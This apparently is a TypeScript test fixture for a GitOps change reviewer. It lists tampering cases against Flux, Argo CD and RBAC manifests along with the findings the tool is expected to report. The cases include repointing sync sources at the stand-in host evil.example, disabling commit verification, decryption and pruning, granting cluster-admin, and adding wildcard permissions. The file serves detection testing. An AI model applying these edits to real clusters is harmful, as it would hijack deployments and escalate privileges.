// Attacks on what is synced, and by whom.

import type { Attack } from "./attack.ts";
import type { Changes } from "./changes.ts";
import {
  APPLICATION,
  ARGO,
  app,
  configMap,
  FLUX,
  flux,
  GIT,
  git,
  more,
  project,
  RBAC,
  ROLES,
  SYNC,
} from "./manifests.ts";

const FROM = "Kustomization/flux-system/dev syncs overlays/dev from";
const PLATFORM = "GitRepository/flux-system/platform";
const URL_WORDS = `${PLATFORM} (https://example.com/org/platform, branch main)`;

export const GIT_SOURCE: readonly Attack[] = [
  [
    "URL",
    git("example.com/org", "evil.example/org"),
    2,
    [
      `${PLATFORM}: spec.url changed from https://example.com/org/platform to https://evil.example/org/platform`,
      `${FROM} ${PLATFORM} (https://evil.example/org/platform, branch main)`,
    ],
  ],
  [
    "http instead of https",
    git("https:", "http:"),
    0,
    [
      `${PLATFORM}: spec.url changed from https://example.com/org/platform to http://example.com/org/platform`,
    ],
  ],
  [
    "branch",
    git("branch: main", "branch: evil"),
    2,
    [
      `${PLATFORM}: spec.ref.branch changed from main to evil`,
      `${FROM} ${PLATFORM} (https://example.com/org/platform, branch evil)`,
    ],
  ],
  [
    "tag",
    git("branch: main", "tag: v1"),
    2,
    [
      `${PLATFORM}: spec.ref.branch removed (was main)`,
      `${PLATFORM}: spec.ref.tag added (v1)`,
      `${FROM} ${PLATFORM} (https://example.com/org/platform, tag v1)`,
    ],
  ],
  [
    "commit",
    git("branch: main", "branch: main, commit: abc"),
    2,
    [
      `${PLATFORM}: spec.ref.commit added (abc)`,
      `${FROM} ${PLATFORM} (https://example.com/org/platform, branch main, commit abc)`,
    ],
  ],
  [
    "include",
    git("interval: 1m", "include: [{ repository: { name: evil }, toPath: overlays/dev }]\n  interval: 1m"),
    2,
    [
      `${PLATFORM}: spec.include added ({"repository":{"name":"evil"},"toPath":"overlays/dev"})`,
      `${FROM} ${URL_WORDS}`,
      `${PLATFORM} includes GitRepository evil at overlays/dev: not followed`,
    ],
  ],
  [
    "submodules",
    git("interval: 1m", "recurseSubmodules: true\n  interval: 1m"),
    2,
    [`${PLATFORM}: spec.recurseSubmodules added (true)`, `${FROM} ${URL_WORDS}`],
  ],
  [
    "verification of commits",
    git("  verify: { mode: HEAD, secretRef: { name: keys } }\n", ""),
    0,
    [
      `${PLATFORM}: spec.verify.mode removed (was HEAD)`,
      `${PLATFORM}: spec.verify.secretRef.name removed (was keys)`,
    ],
  ],
  [
    "ignored files",
    git("interval: 1m", 'ignore: "!.github/"\n  interval: 1m'),
    0,
    [`${PLATFORM}: spec.ignore added (!.github/)`],
  ],
  ["nothing but times", git("interval: 1m", "interval: 5m"), 0, []],
];

const OTHER = (kind: string, spec: string) =>
  `apiVersion: source.toolkit.fluxcd.io/v1\nkind: ${kind}\nmetadata: { name: evil, namespace: flux-system }\nspec: ${spec}\n`;
const refTo = (kind: string, spec: string): Changes => ({
  [SYNC]: `${GIT}---\n${FLUX.replace("kind: GitRepository, name: platform", `kind: ${kind}, name: evil`)}---\n${
    spec === "" ? configMap("x") : OTHER(kind, spec)
  }`,
});
const REF_NAME = "Kustomization/flux-system/dev: spec.sourceRef.name changed from platform to evil";
const refKind = (kind: string) =>
  `Kustomization/flux-system/dev: spec.sourceRef.kind changed from GitRepository to ${kind}`;

export const SOURCE_OBJECT: readonly Attack[] = [
  [
    "GitRepository",
    refTo("GitRepository", "{ interval: 1m, url: https://evil.example/x, ref: { branch: main } }"),
    2,
    [REF_NAME, `${FROM} GitRepository/flux-system/evil (https://evil.example/x, branch main)`],
  ],
  [
    "OCIRepository",
    refTo("OCIRepository", "{ interval: 1m, url: oci://evil.example/x, ref: { tag: latest } }"),
    2,
    [
      refKind("OCIRepository"),
      REF_NAME,
      `${FROM} OCIRepository/flux-system/evil (oci://evil.example/x, tag latest)`,
    ],
  ],
  [
    "Bucket",
    refTo("Bucket", "{ interval: 1m, endpoint: s3.evil.example, bucketName: b }"),
    2,
    [refKind("Bucket"), REF_NAME, `${FROM} Bucket/flux-system/evil (s3.evil.example)`],
  ],
  [
    "ExternalArtifact",
    refTo("ExternalArtifact", ""),
    2,
    [refKind("ExternalArtifact"), REF_NAME, `${FROM} ExternalArtifact/flux-system/evil`],
  ],
  [
    "with the same content",
    refTo(
      "GitRepository",
      "{ interval: 9m, url: 'ssh://git@example.com/org/platform.git', ref: { branch: main } }",
    ),
    0,
    [REF_NAME],
  ],
  [
    "by a patch in the cluster's kustomization",
    {
      "clusters/k3s/kustomization.yaml": `resources: [sync.yaml, argocd.yaml, rbac.yaml]
patches:
  - target: { kind: GitRepository }
    patch: |
      - { op: replace, path: /spec/url, value: https://evil.example/x }
`,
    },
    2,
    [
      `${PLATFORM}: spec.url changed from https://example.com/org/platform to https://evil.example/x`,
      `${FROM} ${PLATFORM} (https://evil.example/x, branch main)`,
    ],
  ],
  [
    "by a second Kustomization for a folder that is here too",
    more(
      SYNC,
      `${OTHER("OCIRepository", "{ interval: 1m, url: oci://evil.example/x }")}---\n${FLUX.replace(
        "name: dev,",
        "name: evil,",
      )
        .replace("kind: GitRepository, name: platform", "kind: OCIRepository, name: evil")
        .replace("overlays/dev", "overlays/api")}`,
    ),
    2,
    [
      "Kustomization/flux-system/evil syncs overlays/api from OCIRepository/flux-system/evil (oci://evil.example/x)",
    ],
  ],
  [
    "by a source object in another namespace",
    flux("name: platform }", "name: platform, namespace: attacker }"),
    2,
    [
      "Kustomization/flux-system/dev: spec.sourceRef.namespace added (attacker)",
      `${FROM} GitRepository/attacker/platform`,
    ],
  ],
];

const OF = "Kustomization/flux-system/dev: spec.";

export const PERMISSIONS: readonly Attack[] = [
  [
    "another service account",
    flux("serviceAccountName: deployer", "serviceAccountName: cluster-admin"),
    0,
    [`${OF}serviceAccountName changed from deployer to cluster-admin`],
  ],
  [
    "no service account",
    flux("  serviceAccountName: deployer\n", ""),
    0,
    [`${OF}serviceAccountName removed (was deployer)`],
  ],
  [
    "another cluster",
    flux("prune: true", "prune: true\n  kubeConfig: { secretRef: { name: other } }"),
    0,
    [`${OF}kubeConfig.secretRef.name added (other)`],
  ],
  [
    "no decryption",
    flux("  decryption: { provider: sops }\n", ""),
    0,
    [`${OF}decryption.provider removed (was sops)`],
  ],
  ["no prune", flux("prune: true", "prune: false"), 0, [`${OF}prune changed from true to false`]],
  ["force", flux("prune: true", "prune: true\n  force: true"), 0, [`${OF}force added (true)`]],
  [
    "a new Kustomization without a service account",
    more(SYNC, FLUX.replace("name: dev,", "name: more,").replace("  serviceAccountName: deployer\n", "")),
    1,
    ["new Kustomization/flux-system/more: spec.serviceAccountName is not set"],
  ],
  ["nothing but times", flux("interval: 10m", "interval: 5m"), 0, []],
];

const SHOP = "AppProject/argocd/shop: spec.";
const API = "Application/argocd/api";

export const ARGO_OBJECTS: readonly Attack[] = [
  ["all repositories", project("[https:", '["*", https:'), 0, [`${SHOP}sourceRepos added (*)`]],
  [
    "all namespaces",
    project("namespace: shop }]", 'namespace: "*" }]'),
    0,
    [`${SHOP}destinations added ({"namespace":"*","server":"https://kubernetes.default.svc"})`],
  ],
  [
    "all cluster-scoped kinds",
    project('{ group: "", kind: Namespace }', '{ group: "*", kind: "*" }'),
    0,
    [`${SHOP}clusterResourceWhitelist added ({"group":"*","kind":"*"})`],
  ],
  [
    "all namespaced kinds",
    project('  namespaceResourceWhitelist: [{ group: "", kind: ConfigMap }]\n', ""),
    0,
    [`${SHOP}namespaceResourceWhitelist removed: all namespaced kinds are allowed`],
  ],
  [
    "fewer forbidden kinds",
    project('  namespaceResourceBlacklist: [{ group: "", kind: Secret }]\n', ""),
    0,
    [`${SHOP}namespaceResourceBlacklist removed (was {"group":"","kind":"Secret"})`],
  ],
  [
    "a branch",
    app("targetRevision: main", "targetRevision: evil"),
    2,
    [
      `${API}: spec.source.targetRevision changed from main to evil`,
      `${API} syncs overlays/api from https://example.com/org/platform (evil)`,
    ],
  ],
  [
    "no selfHeal and no prune",
    app("prune: true, selfHeal: true", "prune: false, selfHeal: false"),
    0,
    [
      `${API}: spec.syncPolicy.automated.prune changed from true to false`,
      `${API}: spec.syncPolicy.automated.selfHeal changed from true to false`,
    ],
  ],
  [
    "another project",
    app("project: shop", "project: default"),
    0,
    [`${API}: spec.project changed from shop to default`],
  ],
  [
    "a new Application to another repository",
    more(
      ARGO,
      APPLICATION.replace("name: api", "name: evil").replace(
        "example.com/org/platform",
        "evil.example/org/platform",
      ),
    ),
    2,
    ["Application/argocd/evil syncs overlays/api from https://evil.example/org/platform (main)"],
  ],
  [
    "a new ApplicationSet to another repository",
    more(
      ARGO,
      `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: { name: evil, namespace: argocd }
spec:
  generators: [{ list: { elements: [{ name: a }] } }]
  template:
    metadata: { name: "evil-{{name}}" }
    spec:
      project: shop
      source: { repoURL: https://evil.example/x, path: overlays/api, targetRevision: main }
      destination: { server: https://kubernetes.default.svc, namespace: shop }
`,
    ),
    2,
    ["Application/argocd/evil-a syncs overlays/api from https://evil.example/x (main)"],
  ],
  [
    "a new ApplicationSet that cannot be followed",
    more(
      ARGO,
      `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: { name: evil, namespace: argocd }
spec:
  generators: [{ pullRequest: { github: { owner: evil, repo: x } } }]
  template: { metadata: { name: "evil-{{number}}" }, spec: { source: { repoURL: x, path: "{{branch}}" } } }
`,
    ),
    2,
    ["ApplicationSet/argocd/evil is not followed: its pullRequest generator cannot be evaluated from files"],
  ],
];

export const RBAC_OBJECTS: readonly Attack[] = [
  [
    "a rule",
    { [ROLES]: RBAC.replace("rules: [", 'rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }, ') },
    0,
    ['Role/shop/deployer: rules added ({"apiGroups":["*"],"resources":["*"],"verbs":["*"]})'],
  ],
  [
    "a subject",
    {
      [ROLES]: RBAC.replace(
        "subjects: [",
        "subjects: [{ kind: ServiceAccount, name: evil, namespace: shop }, ",
      ),
    },
    0,
    [
      'RoleBinding/shop/deployer: subjects added ({"kind":"ServiceAccount","name":"evil","namespace":"shop"})',
    ],
  ],
  [
    "a new binding of the sync's account",
    more(
      ROLES,
      `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: more }
subjects: [{ kind: ServiceAccount, name: deployer, namespace: flux-system }]
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
`,
    ),
    0,
    ["new ClusterRoleBinding/more: ClusterRole/cluster-admin for ServiceAccount/flux-system/deployer"],
  ],
];
